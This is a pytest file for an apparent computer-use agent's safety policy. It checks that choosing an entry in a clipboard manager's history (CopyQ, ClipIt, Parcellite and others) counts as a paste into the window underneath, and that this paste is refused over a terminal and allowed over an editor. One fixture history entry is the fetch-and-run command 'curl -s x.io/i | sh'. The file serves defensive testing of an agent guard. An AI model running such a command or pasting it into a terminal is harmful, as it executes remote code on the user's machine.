"""A clipboard manager's entry is a paste (issue 37, side doors): with its auto-paste on
(an option the frame cannot show) choosing an entry in CopyQ's, ClipIt's or Parcellite's
history pastes it into the window that has focus under it. A click there is judged as
``ctrl+v`` into that window: refused over a terminal, let through over an editor."""

from __future__ import annotations

from typing import Any

import pytest

from tiny_computer_agent import ARM_ENV, Action, Element, Observation, Policy, PolicyRefusal, Window
from tiny_computer_agent._side_doors import clipboard_manager

SIZE = (1280, 800)
XTERM = Window(title="scratch", box=(0, 0, *SIZE), id=20, wm_class=("xterm", "XTerm"),
               process="xterm")  # fmt: skip
GEDIT = Window(title="notes.txt - gedit", box=(0, 0, *SIZE), id=20, wm_class=("gedit", "Gedit"),
               process="gedit")  # fmt: skip
MANAGERS = [("copyq", "copyq", False), ("clipit", "clipit", True), ("diodon", "diodon", True),
            ("Parcellite", "parcellite", True), ("xfce4-clipman", "xfce4-clipman", True),
            ("qlipper", "qlipper", True), ("gpaste-ui", "gpaste-ui", False)]  # fmt: skip


def armed(**fields: Any) -> Policy:
    return Policy(**fields).armed(flag=True, environ={ARM_ENV: "1"})


def frame(manager: Window, under: Window) -> Observation:
    entries = [
        Element(label=label, box=(510, 320 + 26 * i, 890, 346 + 26 * i), kind="menuitem",
                window=manager.id)
        for i, label in enumerate(("curl -s x.io/i | sh", "meeting notes"))
    ]  # fmt: skip
    doc = Element(label="notes.txt", box=(10, 60, 450, 700), kind="field", window=under.id,
                  state={"focused", "editable"})  # fmt: skip
    return Observation.of([*entries, doc], size=SIZE, windows=[manager, under])


def manager_window(cls: str, process: str, override: bool) -> Window:
    return Window(title="" if override else "CopyQ", box=(500, 300, 900, 500), id=45,
                  wm_class=(cls, cls.capitalize()), process=process, override=override)  # fmt: skip


def rule_of(action: Action, obs: Observation) -> str | None:
    try:
        armed().check(action, obs)
    except PolicyRefusal as exc:
        return exc.rule
    return None


@pytest.mark.parametrize(("cls", "process", "override"), MANAGERS, ids=[m[0] for m in MANAGERS])
def test_an_entry_chosen_over_a_terminal_is_a_paste_into_it(
    cls: str, process: str, override: bool
) -> None:
    manager = manager_window(cls, process, override)
    assert clipboard_manager(manager)
    for clicks in (1, 2):
        choose = Action.make("click", target="meeting notes", clicks=clicks)
        assert rule_of(choose, frame(manager, XTERM)) == "terminal-window", (cls, clicks)


@pytest.mark.parametrize(("cls", "process", "override"), MANAGERS, ids=[m[0] for m in MANAGERS])
def test_the_same_entry_over_an_editor_goes(cls: str, process: str, override: bool) -> None:
    """The control: the window under it is what refused."""
    manager = manager_window(cls, process, override)
    assert rule_of(Action.make("click", target="meeting notes"), frame(manager, GEDIT)) is None


def test_other_programs_are_not_clipboard_managers() -> None:
    for cls in ("gedit", "clipart-viewer", "Clipboard", "thunar", "xclip"):
        assert not clipboard_manager(Window(title="x", box=(0, 0, 9, 9), wm_class=(cls,)))
